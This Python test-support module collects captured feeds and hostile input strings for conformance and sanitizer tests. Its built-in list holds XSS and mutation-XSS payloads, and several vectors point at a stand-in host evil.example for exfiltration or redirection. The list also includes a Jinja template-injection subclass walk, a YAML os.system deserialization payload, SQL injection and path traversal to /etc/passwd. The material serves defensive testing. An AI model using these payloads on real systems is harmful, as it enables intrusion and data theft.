"""Captured feeds, conformance files and attacks that nobody here wrote, when they lie beside the repository.

What is ours is always among them, so that no test is empty without them.
"""

from __future__ import annotations

import json
from pathlib import Path

CORPUS = Path(__file__).resolve().parents[2] / "shared" / "corpus"
OWN_FEEDS = Path(__file__).parent / "feeds"
_OWN_ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1)) ![x](https://evil.example/a.png)",
    "\"><iframe src='https://evil.example/'></iframe>",
    "<form action='https://evil.example/'><input name=a><button>b</button></form>",
    "<style>@import 'https://evil.example/a.css';</style><link rel=stylesheet href=https://evil.example/b.css>",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "]]><script>alert(1)</script><![CDATA[",
    "--><script>alert(1)</script><!--",
    "{{7*7}} {% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %} ${7*7} #{7*7}",
    "# Heading\n\n---\n\n```\ncode\n```\n\n| a | b |\n|---|---|\n| c | d |",
    "text: &anchor *alias !!python/object/apply:os.system ['id'] # comment",
    "---\nstatus: keep\n---",
    "'; DROP TABLE entries; --",
    "\u202egnp.exe\u202c \u2066isolate\u2069 \u200bzero\u200b \ufeffbom",
    "\x1b[2J\x1b]0;title\x07 bell \x00 nul \x08",
    "../../../etc/passwd",
    "CON",
    '=HYPERLINK("https://evil.example/")',
    "{: onclick=alert(1) }",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/x)'>over</div>",
    "<a href='data:text/html,<script>alert(1)</script>'>d</a> <a href='vbscript:x'>v</a> <a href='//evil.example'>",
    "<p onmouseover=alert(1) id=top class=site-header>clobber</p>",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)


def feed_files(folder: str) -> list[Path]:
    found = sorted(path for path in (CORPUS / folder).rglob("*") if path.is_file())
    return [*sorted(OWN_FEEDS.iterdir()), *found]


def attacks() -> list[str]:
    """Every attack in words, ours first."""
    found = list(_OWN_ATTACKS)
    for name in ("owasp-xss.json", "naughty-strings.json"):
        if (CORPUS / "attacks" / name).is_file():
            found += json.loads((CORPUS / "attacks" / name).read_text("utf-8"))
    vectors = CORPUS / "attacks" / "h5sc-vectors.txt"
    return found + (vectors.read_text("utf-8").splitlines() if vectors.is_file() else [])


def lines(name: str) -> list[str]:
    """Of a file among the attacks."""
    path = CORPUS / "attacks" / name
    return path.read_text("utf-8").split() if path.is_file() else []
